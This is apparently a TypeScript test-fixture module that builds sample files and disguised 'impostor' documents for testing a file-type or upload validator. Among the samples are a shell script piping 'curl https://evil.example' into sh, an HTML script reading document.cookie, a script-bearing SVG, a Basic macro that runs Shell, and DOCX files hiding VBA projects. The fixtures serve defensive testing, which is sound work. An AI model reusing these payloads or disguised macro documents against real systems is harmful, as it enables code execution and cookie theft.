import { crc32, deflateRawSync } from "node:zlib";

/** A minimal zip writer (stored or deflated entries) to build ODT/DOCX samples and impostors. */
export function buildZip(entries: { name: string; data: string | Buffer; deflate?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const raw = Buffer.isBuffer(entry.data) ? entry.data : Buffer.from(entry.data, "utf8");
    const data = entry.deflate ? deflateRawSync(raw) : raw;
    const name = Buffer.from(entry.name, "utf8");
    const crc = crc32(raw);
    const method = entry.deflate ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    locals.push(local, name, data);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

function officeWithMain(partName: string, contentType: string): Buffer {
  return buildZip([
    { name: "[Content_Types].xml", deflate: true, data: `<Types><Override PartName="/${partName}" ContentType="${contentType}"/></Types>` },
    { name: partName, data: "<x/>", deflate: true },
  ]);
}

export const samples = {
  pdf: Buffer.concat([Buffer.from("%PDF-1.4\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "latin1")]),
  png: Buffer.from("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489", "hex"),
  jpeg: Buffer.from("ffd8ffe000104a46494600010100000100010000ffd9", "hex"),
  exe: Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(120, 0)]),
  odt: buildZip([
    { name: "mimetype", data: "application/vnd.oasis.opendocument.text" },
    { name: "content.xml", data: "<office:document-content/>", deflate: true },
  ]),
  docx: buildZip([
    {
      name: "[Content_Types].xml",
      deflate: true,
      data:
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    { name: "word/document.xml", data: "<w:document/>", deflate: true },
  ]),
  docm: buildZip([
    {
      name: "[Content_Types].xml",
      deflate: true,
      data: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
  ]),
  /** A real .docm's shape: macro-enabled main part, a VBA project and its content type. */
  docmWithVbaProject: buildZip([
    {
      name: "[Content_Types].xml",
      deflate: true,
      data:
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
    { name: "word/document.xml", data: "<w:document/>", deflate: true },
    { name: "word/vbaProject.bin", data: Buffer.from("d0cf11e0a1b11ae1", "hex"), deflate: true },
  ]),
  /** Declares itself a plain DOCX but carries a VBA project. */
  docxCarryingVbaProject: buildZip([
    {
      name: "[Content_Types].xml",
      deflate: true,
      data: `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/></Types>`,
    },
    { name: "word/document.xml", data: "<w:document/>", deflate: true },
    { name: "word/vbaProject.bin", data: Buffer.from("d0cf11e0a1b11ae1", "hex") },
  ]),
  /** Names the DOCX main part first, then declares a macro-enabled part (file-type reads only the first). */
  docxDeclaringMacroPart: buildZip([
    {
      name: "[Content_Types].xml",
      deflate: true,
      data:
        `<Types><Override PartName="/word/document.xml" ContentType="${DOCX_MAIN}"/>` +
        '<Override PartName="/word/other.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
    { name: "word/document.xml", data: "<w:document/>", deflate: true },
  ]),
  xlsm: officeWithMain("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
  pptm: officeWithMain("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
  xlsx: officeWithMain("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
  /** An ODT carrying a LibreOffice Basic macro library. */
  odtWithBasicMacro: buildZip([
    { name: "mimetype", data: "application/vnd.oasis.opendocument.text" },
    { name: "content.xml", data: "<office:document-content/>", deflate: true },
    { name: "Basic/Standard/Module1.xml", data: '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>', deflate: true },
  ]),
  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svgWithScript: Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0)]),
  shellScript: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
  plainZip: buildZip([{ name: "readme.txt", data: "hello" }]),
  odsSpreadsheet: buildZip([{ name: "mimetype", data: "application/vnd.oasis.opendocument.spreadsheet" }]),
};

export async function* chunksOf(buffer: Buffer, size = 64 * 1024): AsyncIterable<Uint8Array> {
  for (let i = 0; i < buffer.length; i += size) yield buffer.subarray(i, i + size);
}

export async function collect(source: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of source) parts.push(Buffer.from(chunk));
  return Buffer.concat(parts);
}
